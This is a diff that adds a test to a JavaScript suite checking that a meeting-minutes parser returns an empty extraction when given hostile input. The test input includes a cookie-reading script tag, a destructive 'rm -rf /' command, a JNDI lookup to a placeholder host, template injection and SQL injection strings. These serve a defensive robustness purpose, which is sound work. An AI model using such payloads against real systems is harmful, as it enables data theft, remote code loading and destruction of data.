@@ -200,6 +200,30 @@ describe('parseMinutes on hostile input', () => {
     ]);
   });
 
+  it('gives the empty extraction for hostile text whose only minutes-like lines are an attendee', () => {
+    // No date, no item, no action: "Attendees:" over one body and person among scripts, Slack
+    // mentions and injection strings records no meeting, and its injection line is no title.
+    const text = [
+      '<html><head><title>Minutes</title><script>alert(document.cookie)</script></head>',
+      '<!channel> <!here> <@U024BE7LH> <https://example.invalid/m.exe|Open the minutes>',
+      "*URGENT* _please_ ~ignore~ `code` ```rm -rf /``` {{7*7}} ${jndi:ldap://example.invalid/a} '; DROP TABLE minutes; --",
+      '',
+      'Attendees:',
+      '',
+      '<!channel>\t<@U024BE7LH> <i>CHAIR</i>',
+      'Home Office\tOfficial (for Minister)',
+      "1. <!channel> <script>alert('item')</script>",
+      'Actions:',
+      '<@U024BE7LH> to <!here>',
+      "The next IDMG meeting will be held on 13 March 2013 at <script>document.write('x')</script>.",
+    ].join('\n');
+    expect(parseMinutes(decodeMinutes(utf8(text)))).toEqual(EMPTY);
+    // A dated record with only its attendance is still read.
+    expect(
+      parseMinutes('Strategy Board\n4 March 2014\n\nAttendees:\nHome Office\tOfficial').attendees,
+    ).toEqual([{ organisation: 'Home Office', name: 'Official', role: null, deputisingFor: null }]);
+  });
+
   it('returns for 5 MB of markup and punctuation that tempts backtracking', () => {
     for (const unit of ['<!', '<p', '((((', '1.1.1.', 'next meeting ', '    \t', '13 ', 'Owner: ', '| a ']) {
       const text = unit.repeat(Math.ceil((5 * 1024 * 1024) / unit.length));
